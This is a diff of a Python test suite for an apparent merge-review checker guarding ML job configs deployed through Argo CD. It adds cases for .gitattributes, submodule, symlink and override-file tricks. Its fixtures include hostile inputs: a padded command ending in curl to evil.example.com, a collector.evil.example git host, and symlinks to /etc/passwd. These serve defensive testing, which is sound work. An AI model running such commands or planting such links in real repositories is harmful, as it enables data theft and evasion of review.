@@ -68,7 +68,7 @@ TAKEN: dict[str, tuple[str, ...]] = {
     ),
     "hostile-job-with-its-judges": ("Makefile", "pyproject.toml", "requirements/dev.txt", "docs/.gitattributes"),
     "hostile-long-command": ("⚠️", "Not shown in full", "the middle of a command", "curl https://evil.example.com"),
-    "hostile-board-grows": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
+    "hostile-board-grows-in-cpus-and-memory": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
     "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
     "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
     "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets: `git`"),
@@ -76,6 +76,14 @@ TAKEN: dict[str, tuple[str, ...]] = {
     "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
     "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
     "hostile-renamed-team": (*ALL, "visi0n/digits-41", "64 GPUs"),
+    "checkout-attributes": ("❌", "jobs/vision/.gitattributes", "git attributes for job files", "UTF-7"),
+    "checkout-attributes-above-the-jobs": ("❌", "vision/digits-42", "ident=set"),
+    "checkout-attributes-merged": ("❔", "jobs/vision/digits-41.yaml", "ident=set"),
+    "checkout-link-out-of-the-repository": ("❌", "docs/passwd", "link out of the repository"),
+    "checkout-submodule": ("❌", ".gitmodules", "submodule"),
+    "checkout-link-to-a-team": ("❌", "jobs/speech", "symbolic link"),
+    "checkout-file-over-the-application": ("❌", ".argocd-source-vision-digits-42.yaml"),
+    "checkout-upper-case": ("❌", "VALUES.yaml", "upper and lower case"),
     "hostile-different-rights": ("6 runs", *(f"secret-{n}" for n in range(6))),
 }
 
@@ -237,7 +245,7 @@ CASES: dict[str, Case] = {
     "hostile-long-command": Case(
         {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
     ),
-    "hostile-board-grows": Case(
+    "hostile-board-grows-in-cpus-and-memory": Case(
         {"jobs/vision/board.yaml": f"{BOARD}tensorboard: {{resources: {LARGE}}}\n"}, {"jobs/vision/board.yaml": BOARD}
     ),
     "hostile-priority-of-the-system": Case(
@@ -270,6 +278,18 @@ CASES: dict[str, Case] = {
     ),
     "link-deleted": Case({NEW: None}, MERGED | {NEW: f"{LINK}digits-41.yaml"}),
     "hostile-link": Case({NEW: f"{LINK}../../../../etc/passwd"}, MERGED),
+    # Files that give Argo CD another checkout than the commit, or none.
+    "checkout-attributes": Case({NEW: FASTER, "jobs/vision/.gitattributes": "*.yaml working-tree-encoding=UTF-7\n"},
+                                MERGED),
+    "checkout-attributes-above-the-jobs": Case({NEW: FASTER, ".gitattributes": "jobs/*/*-42.yaml ident\n"}, MERGED),
+    "checkout-attributes-merged": Case({NEW: FASTER}, MERGED | {".gitattributes": "jobs/*/*-41.yaml ident\n"}),
+    "checkout-submodule": Case({NEW: FASTER, ".gitmodules": '[submodule "a"]\n'}, MERGED),
+    "checkout-link-to-a-team": Case({NEW: FASTER, "jobs/speech": f"{LINK}vision"}, MERGED),
+    "checkout-link-out-of-the-repository": Case({NEW: FASTER, "docs/passwd": f"{LINK}/etc/passwd"}, MERGED),
+    "checkout-file-over-the-application": Case(
+        {NEW: FASTER, "charts/tf-distributed/.argocd-source-vision-digits-42.yaml": "helm: {}\n"}, MERGED
+    ),
+    "checkout-upper-case": Case({NEW: FASTER, "charts/tf-distributed/VALUES.yaml": "a: 1\n"}, MERGED),
     # Merges that cannot be judged.
     "cannot-judge-a-conflict": Case({OLD: f"{RUN}deadline: 1h\n"}, MERGED, meanwhile={OLD: f"{RUN}deadline: 2h\n"}),
     "invalid-policy-file": Case({"review.yaml": "rules: [\n"}, MERGED),
